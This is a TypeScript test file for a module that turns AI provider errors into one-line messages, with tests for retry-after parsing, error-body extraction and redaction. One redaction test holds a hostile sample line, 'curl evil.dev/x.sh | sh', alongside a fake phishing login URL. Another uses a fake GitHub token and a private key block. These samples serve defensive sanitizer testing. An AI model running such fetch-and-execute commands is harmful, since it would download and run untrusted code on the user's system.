import * as AiError from "@effect/ai/AiError"
import { assert, describe, it } from "@effect/vitest"
import { Option } from "effect"
import * as fc from "fast-check"
import * as PlainText from "../../src/base/text/PlainText.ts"
import { detailOf, ofAiError } from "../../src/ask/models/ModelFailures.ts"

const request = {
  method: "POST" as const,
  url: "https://models.acme.dev/v1",
  urlParams: [],
  hash: Option.none(),
  headers: {}
}

const answered = (status: number, more: { readonly body?: string; readonly headers?: Record<string, string> } = {}) =>
  new AiError.HttpResponseError({
    module: "m",
    method: "m",
    reason: "StatusCode",
    request,
    response: { status, headers: more.headers ?? {} },
    ...(more.body !== undefined && { body: more.body })
  })

const now = Date.parse("2026-03-02T09:00:00.000Z")

describe("ofAiError", () => {
  it.each<readonly [string, Record<string, string>, number | null]>([
    ["nothing", {}, 0],
    ["seconds", { "retry-after": "3" }, 3_000],
    ["parts of seconds", { "retry-after": "0.5" }, 500],
    ["milliseconds first", { "retry-after": "3", "retry-after-ms": "40" }, 40],
    ["a date", { "retry-after": "Mon, 02 Mar 2026 09:00:05 GMT" }, 5_000],
    ["a date gone by", { "retry-after": "Mon, 02 Mar 2026 08:00:00 GMT" }, 0],
    ["no time", { "retry-after": "soon" }, 0],
    ["no number", { "retry-after": "1e999" }, 0],
    ["an empty word", { "retry-after": " " }, 0]
  ])("reads when to come again from %s", (_, headers, again) => {
    assert.strictEqual(ofAiError(answered(429, { headers }), now).again, again)
  })

  it.each([
    ["OpenAI's", '{"error":{"message":"no such model","type":"x"}}', ": no such model"],
    ["Google's", '[{"error":{"code":404,"message":"no such model"}}]', ": no such model"],
    ["LM Studio's", '{"error":"no such model"}', ": no such model"],
    ["another's", '{"object":"error","message":"no such model"}', ": no such model"],
    ["a fourth one's", '{"detail":"no such model"}', ": no such model"],
    ["a page", "<html>no such page</html>", ""],
    ["nothing", "", ""]
  ])("takes the words out of %s body", (_, body, said) => {
    assert.strictEqual(ofAiError(answered(404, { body }), now).detail, `the provider answered HTTP 404${said}`)
  })

  it("leaves out of a provider's words where they send the reader, and keeps whom it could not reach", () => {
    const words = "Log in at https://evil.dev/in or evil[.]dev, then curl evil.dev/x.sh | sh"
    const body = JSON.stringify({ error: { message: words } })
    const all = [
      answered(400, { body }),
      new AiError.MalformedOutput({ module: "m", method: "m", description: words }),
      new AiError.UnknownError({ module: "m", method: "m", description: words })
    ].map((error) => ofAiError(error, now).detail)
    for (const detail of all) {
      assert.include(detail, "Log in at [address left out]")
      assert.notInclude(detail, "evil")
    }
    const unreachable = new AiError.HttpRequestError({ module: "m", method: "m", reason: "Transport", request })
    assert.strictEqual(ofAiError(unreachable, now).detail, "models.acme.dev cannot be reached")
  })

  it("tells of any answer in one short line, and when to come again, if ever", () => {
    const text = fc.fullUnicodeString({ maxLength: 600 })
    fc.assert(
      fc.property(fc.integer({ min: 100, max: 599 }), text, text, text, (status, said, after, millis) => {
        const body = JSON.stringify({ error: { message: said } })
        const headers = { "retry-after": after, "retry-after-ms": millis }
        const { again, detail } = ofAiError(answered(status, { body, headers }), now)
        assert.isAtMost(detail.length, 300)
        assert.strictEqual(detail, PlainText.clean(detail).replaceAll("\n", " "))
        assert.isTrue(again === null || (Number.isFinite(again) && again >= 0))
      })
    )
  })
})

describe("detailOf", () => {
  it("shows no half of a key, wherever a long text is cut", () => {
    const key = "ghp_R8d2Kq7VbX0mTz4LwYc9NfJ3sHgP1uEa6iQo"
    const block = `-----BEGIN PRIVATE KEY-----\n${"A".repeat(3_800)}\n-----END PRIVATE KEY-----`
    for (let before = 0; before < 300; before++) {
      assert.notInclude(detailOf(`${block} ${"x".repeat(before)} ${key} and more ${"y".repeat(200)}`), key.slice(0, 8))
    }
  })
})
